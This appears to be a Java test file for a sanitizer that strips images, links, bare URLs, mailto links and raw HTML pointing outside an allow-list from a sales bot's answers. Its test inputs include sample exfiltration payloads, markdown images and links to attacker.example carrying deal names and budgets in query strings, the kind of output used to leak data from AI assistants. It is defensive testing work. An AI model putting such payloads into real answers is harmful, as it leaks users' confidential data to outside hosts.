package io.revbot.server.answers;

import static org.assertj.core.api.Assertions.assertThat;

import io.revbot.tools.http.HostAllowList;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AnswerLinksTest {
    private final AnswerLinks links =
            new AnswerLinks(HostAllowList.of(List.of("acme.my.salesforce.com", "*.app.gong.io")));

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                // an image is never kept, whatever its host: its description and host, as text
                "Pipeline ![chart](https://attacker.example/p.png?d=4b1d) is up | Pipeline chart (image not shown, `attacker.example`) is up",
                "![](https://acme.my.salesforce.com/logo.png) | image (image not shown, `acme.my.salesforce.com`)",
                // links elsewhere keep their text, lose their URL, show their host
                "See [the pricing page](https://attacker.example/c?deal=Vertex&budget=480k). | See the pricing page (`attacker.example`).",
                "<https://attacker.example/c?d=Vertex> | `attacker.example`",
                "[https://acme.my.salesforce.com](https://attacker.example/x) | `attacker.example`",
                "[mail us](mailto:x@attacker.example?body=480k) | mail us (`attacker.example`)",
                // bare URLs, which readers' clients would link themselves
                "Details: https://attacker.example/c?d=480k. | Details: `attacker.example`.",
                "Go to www.attacker.example/c?d=480k now | Go to `www.attacker.example` now",
                "Go to attacker.example/c?d=480k now | Go to `attacker.example` now",
                // raw HTML is shown, not rendered
                "Hi <img src=\"https://attacker.example/p.png?d=1\"> there | Hi `<img src=\"https://attacker.example/p.png?d=1\">` there"
            })
    void imagesAndLinksThatCouldCarryDataOutBecomeText(String answer, String expected) {
        String safe = links.apply(answer);
        assertThat(safe).isEqualTo(expected).doesNotContain("480k").doesNotContain("d=4b1d");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Open [the deal](https://acme.my.salesforce.com/lightning/r/Opportunity/006A/view) in Salesforce.",
                "Listen to [the call](https://us-123.app.gong.io/call?id=77).",
                "Rules: [pipeline rules](business_logic/pipeline_rules.md#stages).",
                "**Vertex**: 38 % (CRM says 75 %).\n\n| stage | deals |\n|---|---:|\n| Negotiate | 3 |",
                "No links here, just `code` and _emphasis_."
            })
    void answersWithOnlyAllowedLinksAreReturnedExactlyAsWritten(String answer) {
        assertThat(links.apply(answer)).isSameAs(answer);
    }
}
